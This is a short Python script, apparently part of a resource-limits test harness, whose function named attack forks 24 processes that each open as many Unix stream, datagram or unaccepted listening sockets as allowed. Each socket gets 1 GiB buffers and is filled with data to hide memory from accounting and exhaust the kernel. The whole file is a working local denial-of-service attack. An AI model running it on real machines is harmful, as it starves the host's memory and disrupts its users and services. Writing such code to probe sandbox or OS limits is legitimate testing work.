"""Hides memory in the buffers of sockets."""

import contextlib
import os
import socket
import sys
import time

from probe import say
from raw import once, play

PROCESSES = 24


def unix():
    yield from socket.socketpair()


def datagrams():
    yield from socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)


def listening():
    """Connections that nobody accepts hold what was sent to them, too."""
    with socket.socket(socket.AF_UNIX) as door:
        door.bind("")  # any free name of the abstract kind
        door.listen()
        one = socket.socket(socket.AF_UNIX)
        one.connect(door.getsockname())
        yield one
        yield door.dup()


def fill(make):
    """As many sockets as one process may have, each filled to the brim."""
    kept = []
    with contextlib.suppress(OSError):
        while True:
            for end in make():
                kept.append(end)
                for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
                    end.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    for _ in range(1000):
                        end.send(bytes(1 << 15))
    time.sleep(600)


def attack():
    made = 0
    with contextlib.suppress(OSError):
        for _ in range(PROCESSES):
            if os.fork() == 0:
                fill({"unix": unix, "datagrams": datagrams, "listening": listening}[sys.argv[1]])
            made += 1
    say(f"{made} processes fill sockets")
    time.sleep(5)


play(turn=once(attack))
